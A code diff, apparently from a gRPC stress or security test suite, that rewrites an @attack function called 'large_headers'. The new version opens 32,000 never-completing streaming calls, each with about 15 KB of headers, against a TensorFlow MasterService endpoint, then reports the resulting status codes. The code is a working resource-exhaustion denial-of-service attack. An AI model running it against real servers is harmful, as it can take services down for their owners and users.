@@ -158,22 +158,29 @@ def stack_of_one_value(target):
 
 @attack
 def large_headers(target):
-    """4,000 open calls with 15 KB of metadata on each of eight connections."""
+    """4,000 calls with 15 KB of metadata on each of eight connections, whose requests never come."""
+    import asyncio
+
     import grpc
 
     metadata = [(f"x-{i}", "h" * 1000) for i in range(15)]
-    ended = threading.Semaphore(0)
-    address, kept = target.removeprefix("grpc://"), []
-    for connection in range(8):
-        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_metadata_size", 1 << 20)]
-        channel = grpc.insecure_channel(address, options=options)
-        wait = channel.stream_stream("/thalweg.Unknown/Wait")
-        closing = threading.Event()
-        for _ in range(4000):
-            kept.append((channel, wait(iter(lambda c=closing: c.wait() or b"", b"never"), metadata=metadata, timeout=60)))
-            if len(kept) % 200 == 0:
-                time.sleep(0.05)
-    time.sleep(20)
+    address = target.removeprefix("grpc://")
+
+    async def run():
+        calls, codes = [], {}
+        for _ in range(8):
+            channel = grpc.aio.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])
+            step = channel.stream_stream("/tensorflow.MasterService/RunStep")
+            for _ in range(4000):
+                calls.append((channel, step(metadata=metadata, timeout=30)))
+                await asyncio.sleep(0)
+        await asyncio.sleep(15)
+        for _, call in calls:
+            code = (await call.code()).name if call.done() else "open"
+            codes[code] = codes.get(code, 0) + 1
+        raise RuntimeError(f"after 15 s: {codes}")
+
+    asyncio.run(run())
 
 
 @attack
